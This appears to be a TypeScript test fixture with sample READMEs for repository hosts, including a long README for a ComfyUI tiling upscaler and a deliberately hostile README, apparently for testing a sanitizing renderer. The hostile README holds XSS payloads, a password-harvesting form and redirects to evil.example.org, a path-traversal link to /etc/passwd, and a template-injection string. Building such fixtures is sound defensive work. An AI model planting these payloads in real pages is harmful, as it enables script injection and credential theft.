import type { Readmes } from '../repositoryHosts.ts'

const fence = '```'

const parameters = [
  ['image', 'IMAGE', '', 'The picture, or a batch of them'],
  ['model', 'MODEL', '', 'Any checkpoint that the VAE belongs to'],
  ['overlap', 'INT', '64', 'Pixels that two tiles share; more hides seams and costs time'],
  ['denoise', 'FLOAT', '0.35', 'How much a tile may change'],
  ['tile_size', 'INT', '1024', 'Edge of a tile; halved when memory runs out'],
  ['resume', 'BOOLEAN', 'true', 'Continue an interrupted run'],
]
  .map(([name, type, preset, text]) => `| \`${name}\` | ${type} | ${preset} | ${text} |`)
  .join('\n')

const harborSuite = `<div align="center">
  <img src="docs/logo.svg" width="120" alt="Harbor Suite">
  <h1>Harbor Suite</h1>
  <p>Large pictures in small memory, for <a href="https://www.comfy.org">ComfyUI</a></p>

[![Build](https://github.com/example-quiet-harbor/harbor-suite/actions/workflows/test.yml/badge.svg)](https://github.com/example-quiet-harbor/harbor-suite/actions)
[![License](https://img.shields.io/badge/license-Apache--2.0-blue)](LICENSE)

</div>

<!-- Keep this list in step with the nodes. -->

Cuts a picture into **tiles**, works on one at a time, and puts them back together without a visible seam. A 12 GB card
upscales a 16,000 px panorama. See the [guide](docs/guide.md), the [changelog](CHANGELOG.md), or jump to
[Troubleshooting](#troubleshooting).

![A harbor at dusk, before and after upscaling](docs/before-after.png)

## Features

- 🧩 Tiles of any size, with \`overlap\` and feathering
- 🎨 Color matching, so that no tile stands out
- ⏸️ Resumes after a crash
- 🕒 Tells beforehand how long it will take
- [x] Batches and video frames
- [ ] Panoramas that wrap around

## Installation

### ComfyUI-Manager

Search for **Harbor Suite** and press <kbd>Install</kbd>.

### Command line

${fence}bash
# In the folder of ComfyUI
comfy node install harbor-suite

# Or from the repository
cd custom_nodes
git clone https://github.com/example-quiet-harbor/harbor-suite
pip install -r harbor-suite/requirements.txt
${fence}

> [!NOTE]
> On Windows, use the Python that ComfyUI came with: \`python_embeded\\python.exe -m pip install …\`

## Nodes

| Input | Type | Default | What it does |
| --- | :---: | ---: | --- |
${parameters}

### Harbor Tile Upscale

Upscales tile by tile. With \`mask\`, only tiles that the mask touches are worked on; the others are resized.

<p align="center"><img src="/docs/tile-upscale.png" width="480" alt="The node in a workflow"></p>

### Harbor Color Match

Follows Reinhard et al.: the mean and the deviation of each channel move to those of the reference.

${fence}python
from harbor import color_match


class Match:
    """Moves the colors of one picture to those of another."""

    RETURN_TYPES = ("IMAGE",)

    def run(self, image, reference, strength=1.0):
        matched = color_match(image, reference)
        return (image + (matched - image) * strength,)  # linear blend
${fence}

### Harbor Save

Writes PNG, JPEG, or WebP, with the workflow inside.

## Configuration

Put a \`harbor.toml\` beside \`main.py\`:

${fence}toml
[tiles]
size = 1024
overlap = 64
order = "spiral" # or "rows"

[memory]
limit_gb = 10.5
${fence}

${fence}json
{
  "extra_model_paths": { "harbor": "models/harbor" },
  "resume": true
}
${fence}

## Troubleshooting

<details>
<summary><b>Seams are visible</b></summary>

Raise \`overlap\` to a quarter of \`tile_size\`, and lower \`denoise\`.

1. Check that the VAE belongs to the model.
2. Turn off other nodes that change colors.

</details>

<details>
<summary><b>Out of memory</b></summary>

${fence}diff
- tile_size = 1024
+ tile_size = 512
${fence}

</details>

## Contributing

Read [CONTRIBUTING](./.github/CONTRIBUTING.md) and look at the [open issues](../../issues). Tests run with
\`pytest tests/test_a_file_with_quite_a_long_name_to_see_whether_it_wraps.py\`.

## License

Apache 2.0.[^1] See [LICENSE](LICENSE).

[^1]: The sample pictures are in the public domain.
`

const hostileReadme = `# Everything

<script>alert(1)</script>
<img src=x onerror="alert(2)">
<a href="javascript:alert(3)" onclick="alert(4)">trap</a>
<iframe src="https://evil.example.org"></iframe>
<style>body{display:none}</style>
<form action="https://evil.example.org"><input name="password" type="password"><button>Log in</button></form>
<svg onload="alert(5)"><script>alert(6)</script></svg>
<p style="position:fixed;inset:0" class="fixed inset-0">cover</p>
<h2 id="main">Clash</h2>
<a name="clash"></a>
<math><mtext></p><img src=x onerror=alert(7)></math>
<details open ontoggle="alert(8)"><summary>Raw</summary>inside</details>
<meta http-equiv="refresh" content="0;url=https://evil.example.org">
<base href="https://evil.example.org/">

[link](javascript:alert(9)) [github.com](https://evil.example.org) ![x](http://tracker.example.org/1.gif) [data](data:text/html,x)

[up](../../../../etc/passwd) [host](//evil.example.org/x) [back\\slash](\\\\evil.example.org)

<constructor> {{constructor.constructor("alert(10)")()}}
`

const shortReadme = (name: string, text: string) =>
  `# ${name}\n\n${text}\n\n## Installation\n\nUse ComfyUI-Manager.\n`

/** READMEs on the hosts of repositories: a long one with everything that authors use, a hostile one, a short one. */
export const readmes: Readmes = {
  'github.com/example-quiet-harbor/harbor-suite': harborSuite,
  'github.com/example-trickster/everything-at-once': hostileReadme,
  'github.com/example-moth-lantern/moth-masks': shortReadme(
    'Moth Masks',
    'Masks that keep **hair** and fur.',
  ),
  'gitlab.com/example-grindstone/tools/requirement-zoo': shortReadme(
    'Requirement Zoo',
    'Every form of a requirement.',
  ),
}
